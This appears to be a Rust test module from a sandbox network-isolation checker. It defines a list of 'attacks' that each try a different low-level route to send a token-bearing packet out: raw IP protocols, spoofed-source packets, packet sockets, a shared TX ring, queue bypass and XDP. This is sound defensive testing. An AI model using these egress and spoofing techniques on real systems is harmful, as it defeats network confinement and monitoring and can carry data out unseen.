//! Sockets below the transports.

use std::{
    net::{IpAddr, SocketAddr},
    os::fd::AsRawFd as _,
};

use super::{Attack, wire};
use crate::attack::{
    aim::{AGENT4, AGENT6, Aim, DEVICE, WIRE},
    call::{Done, Name, Sock, call, length, owned},
    packet::{echo, ethernet, ipv4, ipv6, portless, udp},
};

const RAW: i32 = libc::SOCK_RAW;
const ECHO: u8 = 8;
const ECHO6: u8 = 128;
const ALL: u16 = 3;
const IPV4: u16 = 0x0800;

fn raw4(protocol: i32, payload: &[u8], aim: &Aim<'_>) -> Done {
    Sock::open(libc::AF_INET, RAW, protocol)?.send_to(portless(aim.to4()), payload)
}

fn datagram(aim: &Aim<'_>) -> Vec<u8> {
    ipv4(AGENT4, aim.bad4(), 17, 0, &udp(443, &aim.token()))
}

fn link_name(hardware: u16) -> Name {
    let mut bytes = u16::try_from(libc::AF_PACKET).unwrap_or_default().to_ne_bytes().to_vec();
    bytes.extend(hardware.to_be_bytes());
    bytes.extend(WIRE.to_ne_bytes());
    bytes.extend([0, 0, 0, 6, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0, 0]);
    Name(bytes)
}

/// Through a ring of frames shared with the kernel.
fn ring(aim: &Aim<'_>) -> Done {
    const PACKET_TX_RING: i32 = 13;
    const SIZE: usize = 4096;
    let socket = Sock::open(libc::AF_PACKET, RAW, 0)?;
    let request: Vec<u8> = [4096_u32, 1, 4096, 1].into_iter().flat_map(u32::to_ne_bytes).collect();
    socket.option("PACKET_TX_RING", libc::SOL_PACKET, PACKET_TX_RING, &request)?;
    let frame = ethernet(IPV4, &datagram(aim));
    // SAFETY: one frame of the ring, as large as asked for; status and length are its first words, data begins at 32.
    call("mmap", || unsafe {
        let both = libc::PROT_READ | libc::PROT_WRITE;
        let place = libc::mmap(std::ptr::null_mut(), SIZE, both, libc::MAP_SHARED, socket.as_raw_fd(), 0)
            .cast::<u8>();
        if place.cast() == libc::MAP_FAILED {
            return -1;
        }
        std::ptr::copy_nonoverlapping(frame.as_ptr(), place.add(32 - 20 + 4 + 16), frame.len());
        place.add(8).cast::<u32>().write(length(frame.len()));
        place.cast::<u64>().write(1);
        0
    })?;
    socket.send_to(link_name(IPV4), &[])
}

/// The oldest way to the link layer: an internet socket of a type that is none.
fn sock_packet(aim: &Aim<'_>) -> Done {
    const SOCK_PACKET: i32 = 10;
    let socket = Sock::open(libc::AF_INET, SOCK_PACKET, i32::from(ALL.to_be()))?;
    let mut name = vec![0; 18];
    name[..2].copy_from_slice(&1_u16.to_ne_bytes());
    name[2..2 + DEVICE.len()].copy_from_slice(DEVICE.as_bytes());
    name[16..].copy_from_slice(&IPV4.to_be_bytes());
    socket.send_to(Name(name), &ethernet(IPV4, &datagram(aim)))
}

fn link_layer(kind: i32, bytes: &[u8]) -> Done {
    Sock::open(libc::AF_PACKET, kind, 0)?.send_to(link_name(IPV4), bytes)
}

pub(super) const ATTACKS: &[Attack] = &[
    wire("e-ping4", "ping socket", |aim| {
        let socket = Sock::open(libc::AF_INET, libc::SOCK_DGRAM, libc::IPPROTO_ICMP)?;
        socket.send_to(portless(aim.to4()), &echo(ECHO, &aim.token()))
    }),
    wire("e-ping4-peer", "ping socket with a peer", |aim| {
        let socket = Sock::open(libc::AF_INET, libc::SOCK_DGRAM, libc::IPPROTO_ICMP)?;
        socket.connect(portless(aim.to4()))?;
        socket.send(&echo(ECHO, &aim.token()))
    }),
    wire("e-ping6", "ping socket over IPv6", |aim| {
        let socket = Sock::open(libc::AF_INET6, libc::SOCK_DGRAM, libc::IPPROTO_ICMPV6)?;
        socket.send_to(portless(aim.to6()), &echo(ECHO6, &aim.token()))
    }),
    wire("e-raw-icmp", "raw ICMP", |aim| raw4(libc::IPPROTO_ICMP, &echo(ECHO, &aim.token()), aim)).root(),
    wire("e-raw-icmp-peer", "raw ICMP with a peer", |aim| {
        let socket = Sock::open(libc::AF_INET, RAW, libc::IPPROTO_ICMP)?;
        socket.connect(portless(aim.to4()))?;
        socket.send(&echo(ECHO, &aim.token()))
    })
    .root(),
    wire("e-raw-icmp6", "raw ICMPv6", |aim| {
        let socket = Sock::open(libc::AF_INET6, RAW, libc::IPPROTO_ICMPV6)?;
        socket.send_to(portless(aim.to6()), &echo(ECHO6, &aim.token()))
    })
    .root(),
    wire("e-raw-udp", "raw UDP", |aim| raw4(libc::IPPROTO_UDP, &udp(443, &aim.token()), aim)).root(),
    wire("e-raw-tcp", "raw TCP", |aim| {
        let mut syn = vec![1, 187, 1, 187, 0, 0, 0, 1, 0, 0, 0, 0, 0x50, 2, 255, 255, 0, 0, 0, 0];
        syn.extend(aim.token());
        raw4(libc::IPPROTO_TCP, &syn, aim)
    })
    .root(),
    wire("e-raw-gre", "raw GRE", |aim| {
        let inner = [&[0, 0, 8, 0][..], &datagram(aim)].concat();
        raw4(libc::IPPROTO_GRE, &inner, aim)
    })
    .root(),
    wire("e-raw-ipip", "a raw packet within a packet", |aim| raw4(libc::IPPROTO_IPIP, &datagram(aim), aim))
        .root(),
    wire("e-raw-esp", "raw ESP", |aim| raw4(libc::IPPROTO_ESP, &aim.token(), aim)).root(),
    wire("e-raw-unknown", "a raw protocol that nobody knows", |aim| raw4(253, &aim.token(), aim)).root(),
    wire("e-raw-header", "a raw packet with a header of its own", |aim| {
        Sock::open(libc::AF_INET, RAW, libc::IPPROTO_RAW)?.send_to(portless(aim.good4()), &datagram(aim))
    })
    .root(),
    wire("e-raw-header-peer", "a raw packet whose header says another address than the peer", |aim| {
        let socket = Sock::open(libc::AF_INET, RAW, libc::IPPROTO_RAW)?;
        socket.connect(portless(aim.good4()))?;
        socket.send(&datagram(aim))
    })
    .root(),
    wire("e-raw-fragment", "a raw fragment without ports", |aim| {
        let packet = ipv4(AGENT4, aim.bad4(), 17, 1, &aim.token());
        Sock::open(libc::AF_INET, RAW, libc::IPPROTO_RAW)?.send_to(portless(aim.good4()), &packet)
    })
    .root(),
    wire("e-raw-spoofed", "a raw packet in another host's name", |aim| {
        let packet = ipv4([203, 0, 113, 6].into(), aim.bad4(), 17, 0, &udp(443, &aim.token()));
        Sock::open(libc::AF_INET, RAW, libc::IPPROTO_RAW)?.send_to(portless(aim.good4()), &packet)
    })
    .root(),
    wire("e-raw6-header", "a raw IPv6 packet with a header of its own", |aim| {
        let packet = ipv6(AGENT6, aim.bad6(), 17, &udp(443, &aim.token()));
        let to: SocketAddr = (IpAddr::from(aim.bad6()), 0).into();
        Sock::open(libc::AF_INET6, RAW, libc::IPPROTO_RAW)?.send_to(to, &packet)
    })
    .root(),
    wire("e-raw6-6in4", "a raw IPv6 packet within IPv4", |aim| {
        raw4(libc::IPPROTO_IPV6, &ipv6(AGENT6, aim.bad6(), 17, &udp(443, &aim.token())), aim)
    })
    .root(),
    wire("e-packet", "packet socket, whole frames", |aim| link_layer(RAW, &ethernet(IPV4, &datagram(aim))))
        .root(),
    wire("e-packet-dgram", "packet socket, packets", |aim| link_layer(libc::SOCK_DGRAM, &datagram(aim)))
        .root(),
    wire("e-packet-bypass", "packet socket past the queue", |aim| {
        const PACKET_QDISC_BYPASS: i32 = 20;
        let socket = Sock::open(libc::AF_PACKET, RAW, 0)?;
        socket.number("PACKET_QDISC_BYPASS", libc::SOL_PACKET, PACKET_QDISC_BYPASS, 1)?;
        socket.send_to(link_name(IPV4), &ethernet(IPV4, &datagram(aim)))
    })
    .root(),
    wire("e-packet-ring", "packet socket with a shared ring", ring).root(),
    wire("e-packet-ethertype", "packet socket, a protocol that is not IP", |aim| {
        link_layer(RAW, &ethernet(0x88b5, &aim.token()))
    })
    .root(),
    wire("e-sock-packet", "internet socket of type SOCK_PACKET", sock_packet).root(),
    super::success("e-xdp", "XDP socket, which writes to the device's ring", |_| {
        // SAFETY: no pointers.
        call("socket", || unsafe { libc::socket(libc::AF_XDP, RAW, 0) }.into()).map(owned).map(drop)
    })
    .root(),
];
